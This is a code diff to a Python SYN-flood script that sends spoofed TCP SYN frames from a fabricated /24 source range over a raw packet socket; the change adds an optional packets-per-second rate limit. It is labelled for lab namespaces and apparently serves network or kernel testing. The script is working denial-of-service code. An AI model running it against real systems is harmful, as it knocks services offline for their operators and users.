@@ -1,6 +1,6 @@
 # SPDX-License-Identifier: GPL-2.0-only
-"""A SYN flood from made-up sources: flood.py DEV NEXT-HOP-MAC SOURCE-PREFIX/24 DESTINATION PORT SECONDS.
-Prints how many packets it sent. For lab namespaces only: it goes round the sender's own routes and addresses."""
+"""A SYN flood from made-up sources: flood.py DEV NEXT-HOP-MAC SOURCE-PREFIX/24 DESTINATION PORT SECONDS [PPS].
+As fast as it can, unless PPS is given. Prints how many packets it sent. For lab namespaces only: it goes round the sender's own routes and addresses."""
 import random
 import socket
 import struct
@@ -9,6 +9,7 @@ import time
 
 SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20
 FRAMES = 1024
+BURST = 64
 
 
 def checksum(data):
@@ -27,7 +28,7 @@ def syn(dmac, smac, src, dst, sport, dport):
     return dmac + smac + b"\x08\x00" + ip + tcp
 
 
-def main(dev, next_hop, sources, dst, port, seconds):
+def main(dev, next_hop, sources, dst, port, seconds, pps=0):
     sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     sock.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
     sock.bind((dev, 0))
@@ -35,15 +36,19 @@ def main(dev, next_hop, sources, dst, port, seconds):
     net = socket.inet_aton(sources.split("/")[0])[:3]
     frames = [syn(bytes.fromhex(next_hop.replace(":", "")), smac, net + bytes([1 + i % 254]), socket.inet_aton(dst),
                   random.randrange(1024, 65536), int(port)) for i in range(FRAMES)]
-    send, sent = sock.send, 0
-    end = time.monotonic() + float(seconds)
+    send, sent, tried = sock.send, 0, 0
+    begin = time.monotonic()
+    end = begin + float(seconds)
     while time.monotonic() < end:
-        for frame in frames:
+        for frame in frames[tried % FRAMES:][:BURST]:
             try:
                 send(frame)
                 sent += 1
             except OSError:  # no room at the other end of the cable
                 pass
+        tried += BURST
+        if int(pps):
+            time.sleep(max(0, begin + tried / int(pps) - time.monotonic()))
     print(sent, flush=True)
 
 
